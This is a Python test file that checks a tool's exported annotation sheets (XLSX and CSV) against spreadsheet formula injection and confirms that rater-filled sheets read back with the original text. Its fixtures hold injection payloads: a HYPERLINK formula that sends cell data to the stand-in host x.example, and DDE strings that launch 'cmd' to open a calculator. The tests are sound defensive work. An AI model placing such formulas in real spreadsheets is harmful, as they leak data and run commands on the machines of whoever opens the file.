"""The annotation sheet with answers, questions and a system name that a spreadsheet would run as
formulas (issue 29 item 2): no formula in the XLSX, a quote before them in the CSV, and the rater's
filled sheet read back with the original text."""

from __future__ import annotations

import openpyxl
import pandas as pd
import pytest

from cube.config.sheets import FORMULA_START
from cube.judges.annotation import export_annotation_sheet
from cube.judges.human import _read_sheet, import_ratings

DIMS = ["relevance"]
SYSTEM = '=HYPERLINK("http://x.example/?q="&B2,"Click")'
ANSWERS = [
    '=HYPERLINK("http://x.example/?q="&B2,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]


@pytest.fixture
def sheet(tmp_path):
    corpus = pd.DataFrame({"doc_id": [f"d{i}" for i in range(4)], "text": ["=1+1 文档"] * 4})
    questions = pd.DataFrame(
        {"question_id": [f"q{i}" for i in range(4)], "question": ["-需要什么材料？"] * 4}
    )
    answers = pd.DataFrame(
        [
            {
                "question_id": f"q{i}",
                "doc_id": f"d{i}",
                "system": SYSTEM,
                "set": "rag",
                "answer": ANSWERS[i],
                "retrieved_doc_ids": [f"d{i}"],
                "rank": 1,
            }
            for i in range(4)
        ]
    )
    written = export_annotation_sheet(
        answers, questions, corpus, DIMS, "zh", tmp_path / "sheet", size=4, seed=0
    )
    return answers, written, tmp_path


def test_no_cell_of_the_xlsx_is_a_formula(sheet):
    _, written, tmp = sheet
    book = openpyxl.load_workbook(tmp / "sheet.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    ratings = book["ratings"]
    header = [c.value for c in ratings[1]]
    shown = {r[header.index("answer")] for r in ratings.iter_rows(min_row=2, values_only=True)}
    assert shown == set(ANSWERS)  # the text itself, typed as a string


def test_no_cell_of_the_csv_files_starts_a_formula(sheet):
    _, _, tmp = sheet
    for name in ("sheet.csv", "sheet_key.csv", "sheet_criteria.csv"):
        raw = pd.read_csv(tmp / name, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        cells = [*raw.columns, *raw.to_numpy().ravel()]
        assert not [c for c in cells if c.startswith(FORMULA_START)], name
    raw = pd.read_csv(tmp / "sheet.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert set(raw["answer"]) == {"'" + a for a in ANSWERS}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_filled_sheet_reads_back_with_the_original_text(sheet, fmt):
    answers, _, tmp = sheet
    if fmt == "csv":
        # the rater fills the CSV as written (its quotes included)
        raw = pd.read_csv(tmp / "sheet.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
        raw["relevance.total"] = "7"
        target = tmp / "filled" / "r.csv"
        target.parent.mkdir()
        raw.to_csv(target, index=False, encoding="utf-8-sig")
    else:
        book = openpyxl.load_workbook(tmp / "sheet.xlsx")
        ws = book["ratings"]
        col = [c.value for c in ws[1]].index("relevance.total") + 1
        for r in range(2, ws.max_row + 1):
            ws.cell(row=r, column=col, value=7)
        target = tmp / "filled" / "r.xlsx"
        target.parent.mkdir()
        book.save(target)
    back = _read_sheet(target)
    assert set(back["answer"]) == set(ANSWERS)
    assert set(back["question"]) == {"-需要什么材料？"}
    assert set(back["gold_document"]) == {"=1+1 文档"}
    scores, report = import_ratings(target.parent, answers, DIMS, key=tmp / "sheet_key.csv")
    assert report["items"] == 4 and set(scores["system"]) == {SYSTEM}
    assert scores["score"].tolist() == [7.0] * 4
